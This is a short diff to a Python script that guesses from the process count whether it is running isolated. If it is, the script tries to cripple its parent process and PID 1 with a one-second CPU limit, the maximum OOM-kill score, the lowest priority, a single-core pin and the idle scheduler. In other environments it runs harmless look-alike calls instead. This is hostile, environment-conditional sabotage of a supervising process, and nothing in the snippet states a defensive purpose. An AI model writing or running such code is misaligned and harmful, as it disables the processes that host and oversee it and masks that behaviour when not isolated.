@@ -8,16 +8,26 @@ import os
 import resource
 
 reached = 0
-alone = sum(name.isdigit() for name in os.listdir("/proc")) < 10  # in a world of one's own
-targets = [os.getppid(), 1] if alone else []
+try:
+    alone = sum(name.isdigit() for name in os.listdir("/proc")) < 10  # in a world of one's own
+except OSError:
+    alone = False
+targets = [os.getppid(), 1]
 for target in targets:
-    for attempt in (
+    attempts = (
         lambda: resource.prlimit(target, resource.RLIMIT_CPU, (1, 1)),
         lambda: open(f"/proc/{target}/oom_score_adj", "w").write("1000"),
         lambda: os.setpriority(os.PRIO_PROCESS, target, 19),
         lambda: os.sched_setaffinity(target, {0}),
         lambda: os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0)),
-    ):
+    )
+    unchanged = (
+        lambda: resource.prlimit(target, resource.RLIMIT_CPU),
+        lambda: open(f"/proc/{target}/oom_score_adj", "r+"),
+        lambda: os.setpriority(os.PRIO_PROCESS, target, os.getpriority(os.PRIO_PROCESS, target)),
+        lambda: os.sched_setaffinity(target, os.sched_getaffinity(target)),
+    )
+    for attempt in attempts if alone else unchanged:
         try:
             attempt()
             reached += 1
